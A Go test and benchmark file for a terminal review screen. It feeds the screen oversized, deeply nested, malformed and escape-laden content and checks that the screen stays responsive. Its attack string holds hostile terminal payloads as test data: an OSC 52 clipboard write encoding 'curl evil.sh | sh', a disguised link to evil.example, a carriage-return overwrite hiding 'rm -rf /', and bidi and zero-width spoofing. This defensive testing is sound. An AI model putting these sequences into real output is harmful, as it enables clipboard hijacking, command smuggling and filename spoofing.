@@ -1,0 +1,270 @@
+package tui
+
+// Units an agent can write to make the screen slow or unreadable: huge,
+// deeply nested, one endless line, not UTF-8, full of NULs or escape
+// sequences. The tests open each one on the screen and press keys; the
+// benchmarks measure what each costs to format, lay out and draw
+// (docs/reliability.md has the figures):
+//
+//	go test ./tui -run '^$' -bench HostileUnit -benchtime 3x
+
+import (
+	"context"
+	"fmt"
+	"math/rand/v2"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"arbiter/model"
+	"arbiter/review"
+	rt "arbiter/review/reviewtest"
+
+	tea "charm.land/bubbletea/v2"
+)
+
+// hostileUnit is one hostile content, what the top of its formatted
+// pane shows, and what the bottom shows (the note on what was cut).
+type hostileUnit struct {
+	name, content, top, bottom string
+}
+
+// attacks is every terminal attack in one text: CSI colour, cursor and
+// erase sequences, OSC 52 clipboard writes, OSC 8 hyperlinks, window
+// titles, DCS, APC, PM and SOS strings, 8-bit C1 controls, BEL, backspace
+// and carriage-return overwrites, NUL, DEL, bidi overrides and isolates,
+// zero-width and tag characters, line separators and invalid UTF-8.
+const attacks = "red \x1b[31mALERT\x1b[0m clear\x1b[2J\x1b[H up\x1b[1A\x1b[2K alt\x1b[?1049h " +
+	"clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 " +
+	"link\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ title\x1b]0;pwned\x07 " +
+	"dcs\x1bP+q544e\x1b\\ apc\x1b_Gf=100;AAAA\x1b\\ pm\x1b^pm\x1b\\ sos\x1bXsos\x1b\\ reset\x1bc " +
+	"c1\u009b31m\u009d52;c;eA==\u009c\u0090q\u009c\u0085 raw\x9b31m " +
+	"bell\x07 safe\x08\x08\x08\x08evil rm -rf /\rls nul\x00 del\x7f " +
+	"invoice\u202egpj.exe \u2066admin\u2069 \u200f\u061c pay\u200bpal\ufeff\u2060 tag\U000E0041 " +
+	"sep\u2028line\u2029para bad\xff\xc3utf8 tab\tend"
+
+const cutNote = "first 64 KB of"
+
+func hostileUnits() []hostileUnit {
+	para := "An **ordinary** paragraph of a long report, with `code` and a [link](https://example.com), " +
+		"long enough to wrap once or twice in a pane.\n\n"
+	var table strings.Builder
+	table.WriteString("| row | region | p99 ms | note |\n|---:|---|---:|---|\n")
+	for i := range 10_000 {
+		fmt.Fprintf(&table, "| %d | eu-west-%d | %d | steady |\n", i, i%7, 40+i%90)
+	}
+	var lists strings.Builder
+	for i := range 1000 {
+		lists.WriteString(strings.Repeat("  ", i) + "- level " + fmt.Sprint(i) + "\n")
+	}
+	var mixed strings.Builder
+	for i := range 500 {
+		mixed.WriteString(strings.Repeat("> - ", i) + "deeper\n")
+	}
+	var headings strings.Builder
+	for i := range 8_000 {
+		fmt.Fprintf(&headings, "# Heading %d\n", i)
+	}
+	junk := make([]byte, 256<<10)
+	r := rand.New(rand.NewPCG(1, 2))
+	for i := range junk {
+		junk[i] = byte(r.IntN(256))
+	}
+	return []hostileUnit{
+		{"10MB-markdown", strings.Repeat(para, 10<<20/len(para)+1), "ordinary", cutNote},
+		{"10k-row-table", table.String(), "eu-west-", cutNote},
+		{"1000-nested-lists", lists.String(), "too deep to format", cutNote},
+		{"1000-nested-quotes", strings.Repeat(">", 1000) + " deep\n", "too deep to format", "deep"},
+		{"500-nested-quotes-and-lists", mixed.String(), "too deep to format", cutNote},
+		{"8k-headings", headings.String(), "Heading 0", cutNote},
+		{"20k-identical-headings", strings.Repeat("# x\n", 20_000), "x", cutNote},
+		{"1MB-line", strings.Repeat("x", 1<<20), "xxxxxxxxxx", cutNote},
+		{"10MB-line-of-words", strings.Repeat("word ", 2<<20), "word word", cutNote},
+		{"invalid-UTF-8", string(junk), "\uFFFD", cutNote},
+		{"NUL-bytes", strings.Repeat("a\x00b\x00\x00", 200<<10), "a␀b␀␀", cutNote},
+		{"1MB-of-escapes", strings.Repeat(attacks+"\n", 1<<20/len(attacks)), "␛[31mALERT", cutNote},
+	}
+}
+
+// hostileConflict records a conflict whose unit A is content (unit B a
+// short answer) and escalates it, so that it heads the review queue.
+func hostileConflict(t testing.TB, content string) (*rt.Field, rt.Pair) {
+	t.Helper()
+	f := rt.New(t, rt.Policy())
+	p := f.Contradict(t, model.ConflictFactual, rt.Side{Content: content, Score: 0.7},
+		rt.Side{Content: "The **short** answer: p99 is 90 ms.", Score: 0.6})
+	if _, err := f.Svc.Merge(context.Background(), rt.Senior1, model.MergeRequest{ConflictID: p.Conflict,
+		Strategy: model.HumanEscalation, Resolution: model.MergeResolution{Rationale: "needs a person"}}); err != nil {
+		t.Fatal(err)
+	}
+	return f, p
+}
+
+// pump runs the screen without a terminal: it feeds cmd's messages back
+// into m, one at a time as the program would, until done says the frame
+// is ready or the time is up. Ticks are left to fire into the void.
+type pump struct {
+	m    *Model
+	msgs chan tea.Msg
+	stop chan struct{}
+	once sync.Once
+	// problem is the first frame that was not clean (see frameProblem).
+	problem string
+}
+
+func newPump(m *Model) *pump {
+	return &pump{m: m, msgs: make(chan tea.Msg, 256), stop: make(chan struct{})}
+}
+
+func (p *pump) close() { p.once.Do(func() { close(p.stop) }) }
+
+func (p *pump) start(cmd tea.Cmd) {
+	if cmd == nil {
+		return
+	}
+	go func() {
+		msg := cmd()
+		if batch, ok := msg.(tea.BatchMsg); ok {
+			for _, c := range batch {
+				p.start(c)
+			}
+			return
+		}
+		if _, ok := msg.(tea.QuitMsg); ok || msg == nil {
+			return
+		}
+		select {
+		case p.msgs <- msg:
+		case <-p.stop:
+		}
+	}()
+}
+
+// send updates the screen with msg and runs what it asks for.
+func (p *pump) send(msg tea.Msg) {
+	_, cmd := p.m.Update(msg)
+	if p.problem == "" {
+		p.problem = frameProblem(p.m.View().Content)
+	}
+	p.start(cmd)
+}
+
+// until feeds messages until done is true of the drawn frame, and
+// returns it; it fails after limit.
+func (p *pump) until(t testing.TB, limit time.Duration, what string, done func(frame string) bool) string {
+	t.Helper()
+	deadline := time.After(limit)
+	for {
+		frame := p.m.View().Content
+		if done(frame) {
+			return frame
+		}
+		select {
+		case msg := <-p.msgs:
+			p.send(msg)
+		case <-deadline:
+			t.Fatalf("after %s the screen still did not show %s; last frame:\n%s", limit, what, sgr.ReplaceAllString(frame, ""))
+		}
+	}
+}
+
+// openHostile opens the screen on f as the operator, at w × h, and opens
+// the conflict at the head of the queue.
+func openHostile(t testing.TB, svc *review.Service, id string, w, h int) *pump {
+	t.Helper()
+	m := New(svc, Options{Field: "field.db", As: rt.Operator, Theme: "dark",
+		Now: func() time.Time { return time.Now() }})
+	p := newPump(m)
+	t.Cleanup(p.close)
+	p.start(m.Init())
+	p.send(tea.WindowSizeMsg{Width: w, Height: h})
+	p.until(t, 10*time.Second, "the queue", func(f string) bool { return strings.Contains(f, "▸ "+id) })
+	p.send(keyMsg("enter"))
+	return p
+}
+
+// renderedAll says whether both panes have left "Rendering…".
+func renderedAll(frame string) bool {
+	return strings.Contains(frame, " mem-") && !strings.Contains(frame, "Rendering…")
+}
+
+func BenchmarkHostileUnit(b *testing.B) {
+	md := newMarkdown()
+	for _, u := range hostileUnits() {
+		b.Run(u.name, func(b *testing.B) {
+			f, pair := hostileConflict(b, u.content)
+			p := openHostile(b, f.Svc, pair.Conflict, 160, 48)
+			p.until(b, time.Minute, "both units", renderedAll)
+			width := p.m.conflict.innerW
+			b.Run("format", func(b *testing.B) {
+				for b.Loop() {
+					md.Render(u.content, width, "dark")
+				}
+			})
+			for _, mode := range []string{"r", "w", "h"} {
+				name := map[string]string{"r": "raw", "w": "diff", "h": "history"}[mode]
+				b.Run(name+"-open-and-draw", func(b *testing.B) {
+					for b.Loop() {
+						p.send(keyMsg(mode)) // lay the text out
+						p.m.View()
+						p.send(keyMsg(mode)) // and back to the formatted units
+						p.m.View()
+					}
+				})
+			}
+			b.Run("scroll-and-draw", func(b *testing.B) {
+				for b.Loop() {
+					p.send(keyMsg("pgdown"))
+					p.m.View()
+				}
+			})
+		})
+	}
+}
+
+// TestHugeAndMalformedUnitsKeepTheScreenResponsive opens each hostile
+// unit on the screen: both panes must leave "Rendering…" within a bound,
+// the top of the formatted unit and, at its bottom, the note on what was
+// cut must show, and the raw, diff and history views, scrolling and
+// going back to the queue must each be handled. Every frame must be
+// clean. The bounds are loose, for slow machines: before these defences
+// some of these units took minutes, or forever, and the benchmarks give
+// the real figures.
+func TestHugeAndMalformedUnitsKeepTheScreenResponsive(t *testing.T) {
+	const bound = 20 * time.Second
+	for _, u := range hostileUnits() {
+		t.Run(u.name, func(t *testing.T) {
+			f, pair := hostileConflict(t, u.content)
+			start := time.Now()
+			p := openHostile(t, f.Svc, pair.Conflict, 160, 48)
+			p.until(t, bound, "both units formatted", renderedAll)
+			opened := time.Since(start)
+			has := func(s string) func(string) bool {
+				return func(frame string) bool { return strings.Contains(sgr.ReplaceAllString(frame, ""), s) }
+			}
+			p.until(t, bound, "the top of the unit", has(u.top))
+			p.send(keyMsg("G"))
+			p.until(t, bound, "the note at the bottom", has(u.bottom))
+			p.send(keyMsg("r"))
+			p.send(keyMsg("G"))
+			if len(u.content) > maxRawBytes {
+				p.until(t, bound, "the raw view's note", has("arbiter show"))
+			}
+			p.send(keyMsg("g"))
+			p.send(keyMsg("pgdown"))
+			p.send(keyMsg("w"))
+			p.until(t, bound, "the word diff", has("A mem-"))
+			p.send(keyMsg("h"))
+			p.until(t, bound, "the history", has("DETECT"))
+			p.send(keyMsg("h"))
+			p.send(keyMsg("esc"))
+			p.until(t, bound, "the queue", has("▸ "+pair.Conflict))
+			if p.problem != "" {
+				t.Fatalf("a frame carried %s", p.problem)
+			}
+			t.Logf("%s: formatted in %s, every view in %s", u.name, opened.Round(time.Millisecond),
+				time.Since(start).Round(time.Millisecond))
+		})
+	}
+}
